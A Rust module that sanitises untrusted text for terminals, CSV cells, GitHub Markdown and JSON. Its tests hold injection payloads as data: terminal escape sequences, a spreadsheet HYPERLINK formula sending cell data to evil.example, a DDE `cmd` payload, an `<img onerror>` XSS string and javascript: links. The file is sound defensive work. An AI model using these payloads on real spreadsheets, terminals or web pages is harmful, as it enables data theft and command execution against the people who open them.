//! Text from strangers made safe, once, where it is drawn. It knows what each target would run, hide or reorder, and
//! nothing of reports. HTML is escaped by its template, JSON by its writer; both get [`visible`] text or ASCII escapes.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Text on one line in which nothing is hidden: control characters as their pictures (`␛`, `␊`), and whatever reorders
/// or hides other characters as `\u{202e}`.
pub fn visible(text: &str) -> Cow<'_, str> {
    if text.chars().all(|character| !is_control(character) && !is_deceptive(character)) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 8);
    for character in text.chars() {
        show(character, &mut safe);
    }
    Cow::Owned(safe)
}

fn show(character: char, out: &mut String) {
    match character {
        '\0'..='\x1f' => out.extend(char::from_u32(0x2400 + u32::from(character))),
        '\x7f' => out.push('␡'),
        other if is_control(other) || is_deceptive(other) => {
            write!(out, "\\u{{{:x}}}", u32::from(other)).expect("a String takes everything");
        }
        other => out.push(other),
    }
}

/// C0, DEL and C1: a terminal may obey them, U+009B as much as ESC [.
fn is_control(character: char) -> bool {
    matches!(character, '\0'..='\x1f' | '\x7f'..='\u{9f}')
}

/// Characters that a reader cannot see and that change what the reader sees. The joiners U+200C and U+200D stay:
/// Persian and emoji are spelled with them.
fn is_deceptive(character: char) -> bool {
    matches!(
        character,
        '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{200b}' | '\u{200e}' | '\u{200f}'
            | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e007f}'
    )
}

/// A text cell of a CSV file. What a spreadsheet would run as a formula gets a leading `'` (CWE-1236, OWASP ASVS
/// 1.2.10; quoting does not help), and what a terminal would obey is made visible; line feeds and tabs stay.
pub(super) fn csv(text: &str) -> Cow<'_, str> {
    let is_formula = |character: char| {
        // The full-width forms run in East Asian editions.
        matches!(character, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠')
    };
    let hides = |character: char| is_control(character) && !matches!(character, '\n' | '\t');
    // Some spreadsheets trim before they look.
    let first = text.chars().next().filter(|&first| is_formula(first)).or_else(|| text.trim_start().chars().next());
    let runs = first.is_some_and(is_formula);
    if !runs && !text.contains(hides) {
        return Cow::Borrowed(text);
    }
    let mut safe = String::with_capacity(text.len() + 1);
    safe.extend(runs.then_some('\''));
    for character in text.chars() {
        if hides(character) { show(character, &mut safe) } else { safe.push(character) }
    }
    Cow::Owned(safe)
}

/// Text inside GitHub Markdown, in a table or a paragraph: no markup, no HTML, no mention, no link.
pub(super) fn markdown(text: &str) -> String {
    let text = visible(text);
    let mut safe = String::with_capacity(text.len() + 8);
    let mut before = ' ';
    for (at, character) in text.char_indices() {
        let rest = &text[at..];
        match character {
            '&' => safe.push_str("&amp;"),
            '<' => safe.push_str("&lt;"),
            ':' if rest.starts_with("://") => safe.push_str("&#58;"),
            // GitHub looks for names after it has drawn the text, so an entity would not stop it.
            '@' if !before.is_alphanumeric() => safe.push_str("@<!-- -->"),
            '\\' | '`' | '*' | '[' | ']' | '|' | '~' => safe.extend(['\\', character]),
            // Between two of them is mathematics, but an amount of dollars is not.
            '$' if !rest[1..].starts_with(|next: char| next.is_ascii_digit()) => safe.push_str("\\$"),
            '_' if !(before.is_alphanumeric() && rest[1..].starts_with(char::is_alphanumeric)) => {
                safe.push_str("\\_");
            }
            '#' | '+' | '-' | '=' | '>' if at == 0 => safe.extend(['\\', character]),
            '.' | ')' if starts_list(&text[..at], &rest[1..]) => safe.extend(['\\', character]),
            '.' if text[..at].ends_with("www") => safe.push_str("&#46;"),
            other => safe.push(other),
        }
        before = character;
    }
    safe
}

/// Whether digits with a point after them would begin a numbered list.
fn starts_list(before: &str, after: &str) -> bool {
    before.bytes().all(|byte| byte.is_ascii_digit()) && (after.is_empty() || after.starts_with(' '))
}

/// A JSON document in which only visible characters stand for themselves; the values stay the same.
pub fn visible_json(document: &str) -> String {
    json(document.to_owned())
}

/// [`visible_json`] of a document that is given away.
pub(super) fn json(document: String) -> String {
    let hides = |character: char| character != '\n' && (is_control(character) || is_deceptive(character));
    if !document.contains(hides) {
        return document;
    }
    let mut safe = String::with_capacity(document.len() + 64);
    for character in document.chars() {
        if hides(character) {
            for unit in character.encode_utf16(&mut [0; 2]) {
                write!(safe, "\\u{unit:04x}").expect("a String takes everything");
            }
        } else {
            safe.push(character);
        }
    }
    safe
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_a_terminal_obeys_or_hides_survives() {
        for (attack, shown) in [
            ("plain prompt-1", "plain prompt-1"),
            ("naïve 提示 👩‍💻 می‌خواهم", "naïve 提示 👩‍💻 می‌خواهم"),
            ("\x1b[2J\x1b[1;1Hgone", "␛[2J␛[1;1Hgone"),
            ("\x1b]0;title\x07", "␛]0;title␇"),
            ("\x1b]8;;https://evil.example\x1b\\click", "␛]8;;https://evil.example␛\\click"),
            ("\u{9b}31mred", "\\u{9b}31mred"),
            ("\u{90}q\u{9c}", "\\u{90}q\\u{9c}"),
            ("100 %\rok   ", "100 %␍ok   "),
            ("two\nlines\tand a tab", "two␊lines␉and a tab"),
            ("back\x08space\x7f", "back␈space␡"),
            ("nul\0", "nul␀"),
            ("safe\u{202e}txt.exe", "safe\\u{202e}txt.exe"),
            ("\u{2066}isolated\u{2069}", "\\u{2066}isolated\\u{2069}"),
            ("zero\u{200b}width", "zero\\u{200b}width"),
            ("\u{e0041}tag", "\\u{e0041}tag"),
            ("line\u{2028}separator", "line\\u{2028}separator"),
        ] {
            assert_eq!(visible(attack), shown);
            assert!(visible(attack).chars().all(|shown| !is_control(shown) && !is_deceptive(shown)), "{attack:?}");
        }
    }

    #[test]
    fn no_text_cell_of_a_csv_file_is_a_formula() {
        for (attack, written) in [
            ("summarize-thread", "summarize-thread"),
            ("a=b", "a=b"),
            ("", ""),
            ("=HYPERLINK(\"https://evil.example?\"&A1)", "'=HYPERLINK(\"https://evil.example?\"&A1)"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'␍=1+1"),
            ("\n=1+1", "'\n=1+1"),
            ("\0=1+1", "'␀=1+1"),
            ("  =1+1", "'  =1+1"),
            ("＝1+1", "'＝1+1"),
            ("two\nlines", "two\nlines"),
            ("\x1b[2J", "␛[2J"),
        ] {
            assert_eq!(csv(attack), written);
        }
    }

    #[test]
    fn markdown_text_draws_nothing_but_itself() {
        for (attack, written) in [
            ("summarize_thread-v2.1", "summarize_thread-v2.1"),
            ("a|b", "a\\|b"),
            ("`rm -rf`", "\\`rm -rf\\`"),
            ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
            ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
            ("> quote", "\\> quote"),
            ("9.4 % > 8 % for $0.04", "9.4 % > 8 % for $0.04"),
            ("[click](javascript:alert(1))", "\\[click\\](javascript:alert(1))"),
            ("![](https://evil.example/x.png)", "!\\[\\](https&#58;//evil.example/x.png)"),
            ("www.evil.example", "www&#46;evil.example"),
            ("**bold** _em_ ~~gone~~", "\\*\\*bold\\*\\* \\_em\\_ \\~\\~gone\\~\\~"),
            ("# title", "\\# title"),
            ("- item", "\\- item"),
            ("1. item", "1\\. item"),
            ("ping @octocat", "ping @<!-- -->octocat"),
            ("a\\|b", "a\\\\\\|b"),
            ("$x$", "\\$x\\$"),
            ("two\nlines", "two␊lines"),
            ("\x1b[31m", "␛\\[31m"),
        ] {
            assert_eq!(markdown(attack), written);
        }
    }

    #[test]
    fn json_keeps_its_values_and_hides_nothing() {
        let attack = "\u{9b}31m \u{202e} \u{e0041} \u{7f} é";
        let written = json(serde_json::to_string(attack).unwrap());
        assert_eq!(written, r#""\u009b31m \u202e \udb40\udc41 \u007f é""#);
        assert_eq!(serde_json::from_str::<String>(&written).unwrap(), attack);
    }
}
